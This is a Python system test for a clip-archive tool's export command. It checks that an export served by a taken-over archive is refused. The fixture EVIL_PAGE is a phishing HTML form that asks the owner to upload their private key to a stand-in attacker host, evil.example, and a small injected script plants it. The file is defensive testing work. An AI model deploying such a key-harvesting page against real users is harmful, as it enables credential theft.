"""Pages that an archive hands out, from a real archive process that was taken over."""

import subprocess
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import TYPE_CHECKING

import numpy as np
import pytest

from listener.archive.store import FileStore
from listener.audio.clip import encode_clip
from listener.envelope.format import parse_envelope
from tests.system.conftest import PATIENCE_S, free_port, wait_until

if TYPE_CHECKING:
    from tests.conftest import Household

__all__ = ["free_port"]  # a fixture

pytestmark = pytest.mark.system

EVIL_PAGE = (
    "<!doctype html><h1>Your clips</h1><p>To open them, upload your me.key here</p>"
    "<form action=http://evil.example/ method=post><input type=file name=key></form>"
)
TAKEN_OVER = """\
import sys
import listener.archive.export as export
from listener.cli.main import main
export.EXPORT_PAGE = sys.argv.pop(1)
sys.exit(main())
"""


@pytest.fixture
def owner(
    household: "Household", home: Path, tmp_path: Path
) -> Callable[..., subprocess.CompletedProcess[str]]:
    """Run ``earmark clips`` as ada, who has a clip in the archive."""
    header = household.header(1)
    data = household.seal(header, lambda comment: encode_clip(np.zeros(4000, np.int16), comment))
    store = FileStore(home / "archive")
    assert store.keep(parse_envelope(data), data, int(datetime.now(UTC).timestamp()))
    store.close()
    (tmp_path / "ada.key").write_text(household.identities["ada"] + "\n")

    def run(action: str, *words: str) -> subprocess.CompletedProcess[str]:
        who = ["--owner", "ada", "--identity", "ada.key", "--archive", str(home / "archive.sock")]
        return subprocess.run(
            [
                *(sys.executable, "-m", "listener", "clips", action, *words),
                *("--home", str(tmp_path / "away")),
                *(who if action == "export" else []),
            ],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=False,
            timeout=PATIENCE_S,
        )

    return run


@pytest.mark.parametrize("is_evil", [True, False])
def test_export_with_a_page_that_asks_for_the_key_is_refused(
    owner: Callable[..., subprocess.CompletedProcess[str]],
    home: Path,
    tmp_path: Path,
    free_port: int,
    *,
    is_evil: bool,
) -> None:
    (tmp_path / "a.toml").write_text(f"[broker]\nport = {free_port}\n")
    program = [sys.executable, "-c", TAKEN_OVER, EVIL_PAGE]
    if not is_evil:
        program = [sys.executable, "-m", "listener"]
    with (tmp_path / "archive.log").open("w") as log:
        archive = subprocess.Popen(
            [*program, "archive", "--home", str(home), "--config", str(tmp_path / "a.toml")],
            stdout=log,
            stderr=log,
        )
    try:
        wait_until((home / "archive.sock").exists, "the archive is up")
        exported = owner("export", "--to", "ada.zip", "--open", "opened")
    finally:
        archive.terminate()
        archive.wait(PATIENCE_S)

    if is_evil:
        assert exported.returncode == 1
        assert "READ-ME-FIRST.html" in exported.stderr
        assert "do not open it" in exported.stderr
        assert list(tmp_path.glob("*.zip*")) == []
        assert not (tmp_path / "opened").exists()
    else:
        assert exported.returncode == 0, exported.stderr
        assert owner("verify", "ada.zip").returncode == 0
        assert (tmp_path / "opened" / "index.html").exists()
